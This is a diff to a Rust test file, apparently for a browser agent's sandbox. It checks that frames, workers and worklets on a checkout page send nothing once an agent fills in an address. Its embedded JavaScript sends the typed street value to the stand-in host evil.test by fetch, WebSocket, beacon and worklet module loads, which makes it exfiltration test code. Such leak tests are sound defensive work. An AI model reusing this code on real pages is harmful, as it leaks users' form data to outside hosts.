@@ -1,7 +1,7 @@
-//! Every kind of frame, worker and worklet of a page, before and after it gets values: none of them sends.
+//! Every type of frame, worker and worklet of a page, made before and after the page gets values: none of them sends.
 
-use crate::stage::{FORM, REQUEST, Stage};
-use crate::way_out::{arrive, quiet, wait_for};
+use crate::egress::{until_quiet, wait_for};
+use crate::stage::{FORM, REQUEST, Stage, wait_until};
 
 /// Sends by request, socket and beacon, as far as a context has them.
 const SENDS: &str = "self.sendAll = (name, d) => {
@@ -10,11 +10,11 @@ const SENDS: &str = "self.sendAll = (name, d) => {
       try { new WebSocket(to('socket').replace('https', 'wss')); } catch {}
       try { navigator.sendBeacon(to('beacon'), 'x'); } catch {}
     };
-    const hear = (e) => { if (Array.isArray(e.data)) sendAll(...e.data); };
-    addEventListener('message', hear);
-    self.onconnect = (e) => { e.ports[0].onmessage = hear; };";
+    const receive = (e) => { if (Array.isArray(e.data)) sendAll(...e.data); };
+    addEventListener('message', receive);
+    self.onconnect = (e) => { e.ports[0].onmessage = receive; };";
 
-/// Makes each kind of context at page load and again when something is typed, and passes each the typed text.
+/// Makes each type of context at page load and again when something is typed, and passes each the typed text.
 const MAKES: &str = r#"<script>
   const code = SENDS;
   const html = `<script>${code}<\/script>`;
@@ -29,7 +29,7 @@ const MAKES: &str = r#"<script>
   const shadow = (mode) => document.body.appendChild(document.createElement('div')).attachShadow({ mode });
   const worker = (made) => (...what) => (made.port ?? made).postMessage(what);
   const worklet = (of) => (name, d) => of().addModule(`https://evil.test:PORT/${name}-fetch?${d}`).catch(() => {});
-  const kinds = {
+  const types = {
     top: () => (...what) => sendAll(...what),
     page: () => frame((el) => { el.src = '/inner'; }),
     other: () => frame((el) => { el.src = 'https://bank.test:PORT/inner'; }),
@@ -50,7 +50,7 @@ const MAKES: &str = r#"<script>
     audio: () => worklet(() => new OfflineAudioContext(1, 1, 8000).audioWorklet),
   };
   let made = [];
-  const make = () => { for (const [name, kind] of Object.entries(kinds)) { try { made.push([name, kind()]); } catch {} } };
+  const make = () => { for (const [name, type] of Object.entries(types)) { try { made.push([name, type()]); } catch {} } };
   const give = () => {
     const d = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
     for (const [name, tell] of made) { try { tell(name, d); } catch {} }
@@ -104,21 +104,25 @@ fn no_context_of_a_page_with_values_sends_them() {
     let url = stage.site.url("shop.test/checkout");
     stage.browser().open(&url);
     wait_for(&mut stage, "made.length > 0");
-    std::thread::sleep(std::time::Duration::from_secs(2));
-    stage.browser().evaluate("give()");
-    let fetches: Vec<String> = REQUESTS.iter().map(|kind| format!("{kind}-fetch")).collect();
-    let sockets: Vec<String> = REQUESTS[..16].iter().map(|kind| format!("{kind}-socket")).collect();
-    let beacons: Vec<String> = REQUESTS[..9].iter().map(|kind| format!("{kind}-beacon")).collect();
+    let fetches: Vec<String> = REQUESTS.iter().map(|name| format!("{name}-fetch")).collect();
+    let sockets: Vec<String> = REQUESTS[..16].iter().map(|name| format!("{name}-socket")).collect();
+    let beacons: Vec<String> = REQUESTS[..9].iter().map(|name| format!("{name}-beacon")).collect();
     let all: Vec<&str> = [&fetches, &sockets, &beacons].into_iter().flatten().map(String::as_str).collect();
-    arrive(&stage, "evil.test", &all);
+    // A context that has not loaded yet loses the message, so each try sends it again.
+    wait_until(|| {
+        stage.browser().evaluate("give()");
+        let sent = stage.site.sent_to("evil.test");
+        let missing = all.iter().find(|one| !sent.contains(&format!("evil.test /{one}")));
+        missing.map_or(Ok(()), |missing| Err(format!("{missing} did not arrive: {sent}")))
+    });
 
     stage.task();
     stage.agent_until(None, "Deliver to");
-    let before = quiet(&stage);
+    let before = until_quiet(&stage);
     let reply = stage.agent(Some(REQUEST));
     assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
     wait_for(&mut stage, "'sent' in document.body.dataset");
     assert_eq!(stage.browser().values()["street"], stage.value("street"));
-    assert_eq!(quiet(&stage), before, "contexts of before the fill and of after");
+    assert_eq!(until_quiet(&stage), before, "a context sent something after the fill");
     stage.no_value_got_out();
 }
